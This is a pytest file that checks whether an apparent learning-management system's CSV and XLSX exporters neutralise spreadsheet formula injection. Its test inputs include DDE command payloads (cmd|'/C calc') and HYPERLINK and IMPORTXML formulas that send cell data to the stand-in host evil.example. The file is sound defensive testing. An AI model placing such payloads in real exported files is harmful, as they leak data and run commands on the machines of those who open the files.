"""Formulas: no table that leaves the house starts one, and every table leaves by the same door."""

import ast
import csv
import io

import pytest
from openpyxl import load_workbook

from lms.common.tables import write_csv, write_xlsx
from tests.ladder import ROOT, sources

# What starts a formula in some spreadsheet, among them the wide signs of an East Asian keyboard.
STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1;"x")',
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=IMPORTXML("http://evil.example";"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    '";=1+1;"',
    "x\r\n=1+1",
]
DOOR = ROOT / "lms" / "common" / "tables.py"
WRITERS = {"writer", "DictWriter", "Workbook", "writerow", "writerows"}


@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
def test_no_cell_starts_a_formula(formula):
    [row] = list(
        csv.reader(io.StringIO(write_csv(["Name"], [[formula]]).decode("utf-8-sig"), newline=""), delimiter=";")
    )[1:]
    assert len(row) == 1
    assert not row[0].startswith(tuple(STARTS))
    cell = load_workbook(io.BytesIO(write_xlsx([formula], [[formula]], title="People"))).active["A2"]
    assert cell.data_type == "s"
    assert not str(cell.value).startswith(tuple(STARTS))


def test_heads_are_cells_too():
    assert not write_csv(["=1+1"], []).decode("utf-8-sig").startswith("=")


def test_tables_leave_by_one_door():
    found = {
        path.relative_to(ROOT).as_posix()
        for path in sources("lms", "curricula")
        if path != DOOR
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Call) and getattr(node.func, "attr", getattr(node.func, "id", "")) in WRITERS
    }
    assert found == set()
